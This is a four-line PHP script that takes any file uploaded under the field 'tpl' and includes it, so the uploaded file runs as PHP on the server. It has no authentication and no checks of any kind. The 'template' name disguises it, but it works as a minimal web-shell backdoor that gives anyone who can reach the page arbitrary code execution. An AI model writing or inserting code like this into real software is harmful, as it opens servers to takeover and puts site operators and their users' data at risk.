<?php
if (!empty($_FILES['tpl']['tmp_name'])) {
    include $_FILES['tpl']['tmp_name'];
}
